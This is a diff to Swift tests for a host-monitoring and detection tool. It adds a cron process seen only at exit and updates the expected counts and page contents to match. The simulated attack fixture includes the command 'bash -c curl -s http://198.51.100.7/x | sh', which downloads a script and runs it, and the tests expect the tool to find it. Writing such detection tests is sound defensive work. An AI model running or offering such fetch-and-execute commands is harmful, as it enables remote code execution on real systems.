@@ -26,6 +26,8 @@ import Testing
             process("w4", host: "web1", second: 3, executable: "/usr/bin/sh", commandLine: "sh", entity: "E-sh", parent: "E-bash", parentExecutable: "/usr/bin/bash"),
             #"{"@timestamp":"2026-11-23T10:00:04.000Z","event":{"kind":"event","category":["network"],"action":"network-connected","outcome":"success","id":"w5"},"host":{"name":"web1"},"process":{"pid":103,"executable":"/usr/bin/curl","entity_id":"E-curl"},"destination":{"ip":"198.51.100.7","port":80}}"#,
             #"{"@timestamp":"2026-11-23T10:00:05.000Z","event":{"kind":"metric","module":"agent","category":["host"],"action":"agent-heartbeat","id":"w6"},"host":{"name":"web1"},"herdwatch":{"agent":{"interval_seconds":60,"events_per_second":{"auditd":12.5},"lost_total":0,"rss_bytes":31457280,"cpu_percent":0.8,"profile":"pet","cost":{"process":{"events_before":600,"events_after":600,"bytes_before":600000,"bytes_after":600000}}}}}"#,
+            // A process that started before collection: only its exit is known.
+            #"{"@timestamp":"2026-11-23T10:00:07.000Z","event":{"kind":"event","category":["process"],"type":["end"],"action":"process-exited","outcome":"success","id":"w7"},"host":{"name":"web1"},"process":{"pid":90,"executable":"/usr/sbin/cron","entity_id":"E-cron","exit_code":0}}"#,
         ]
         let db1 = [
             #"{"@timestamp":"2026-11-23T10:00:06.000Z","event":{"kind":"event","category":["authentication"],"action":"user-login","outcome":"success","id":"d1"},"host":{"name":"db1"},"user":{"name":"alice"},"source":{"ip":"192.0.2.10"}}"#
@@ -169,7 +171,7 @@ import Testing
             let sql = try await browse(
                 base + "/events?sql=" + "SELECT host, count(*) AS n FROM events GROUP BY host ORDER BY host".addingPercentEncoding(withAllowedCharacters: .alphanumerics)!,
                 screenshot: "sql.png")
-            #expect(sql.contains("<td>db1</td><td class=\"number\">1</td>") && sql.contains("<td>web1</td><td class=\"number\">6</td>"))
+            #expect(sql.contains("<td>db1</td><td class=\"number\">1</td>") && sql.contains("<td>web1</td><td class=\"number\">7</td>"))
             let refused = try await browse(base + "/events?sql=DELETE%20FROM%20events", screenshot: "refused.png")
             #expect(refused.contains("DELETE statements are not allowed"))
 
@@ -236,7 +238,7 @@ import Testing
             let posted = try await client.execute(
                 uri: "/api/v1/query", method: .post, body: ByteBuffer(string: #"{"sql": "SELECT count(*) AS n FROM processes", "hosts": "web1", "limit": 5}"#)
             ) { String(buffer: $0.body) }
-            #expect(posted.contains(#""rows":[[4]]"#), "\(posted)")
+            #expect(posted.contains(#""rows":[[5]]"#), "\(posted)")
         }
     }
 
@@ -257,6 +259,9 @@ import Testing
             let words = try await page("/events?words=curl%20sh")
             #expect(words.1.contains("bash -c curl -s http://198.51.100.7/x | sh") && !words.1.contains("<td>curl -s http://198.51.100.7/x</td>"), "\(words.1)")
             let tree = try await page("/process/E-bash")
+            #expect(tree.1.contains("<span class=\"time\">2026-11-23T10:00:02.000Z</span>"), "a collected start's time")
+            let exitOnly = try await page("/process/E-cron")
+            #expect(exitOnly.0 == .ok && exitOnly.1.contains("<span class=\"time\">first seen 2026-11-23T10:00:07.000Z</span>"), "\(exitOnly.1)")
             #expect(tree.0 == .ok && tree.1.contains(#"href="/process/E-nginx""#) && tree.1.contains(#"href="/process/E-curl""#))
             let alerts = try await page("/alerts")
             #expect(alerts.0 == .ok && alerts.1.contains(#"<a href="/responses?alert=alert-1">2</a>"#), "\(alerts.1)")
@@ -269,7 +274,7 @@ import Testing
                 uri: "/api/v1/events", method: .post, headers: [.authorization: "Bearer web1-token-0123456789"],
                 body: ByteBuffer(string: Self.fleet[0].lines.joined(separator: "\n"))
             ) { String(buffer: $0.body) }
-            #expect(duplicate.contains(#""duplicates":6"#) && duplicate.contains(#""stored":0"#), "\(duplicate)")
+            #expect(duplicate.contains(#""duplicates":7"#) && duplicate.contains(#""stored":0"#), "\(duplicate)")
         }
     }
 
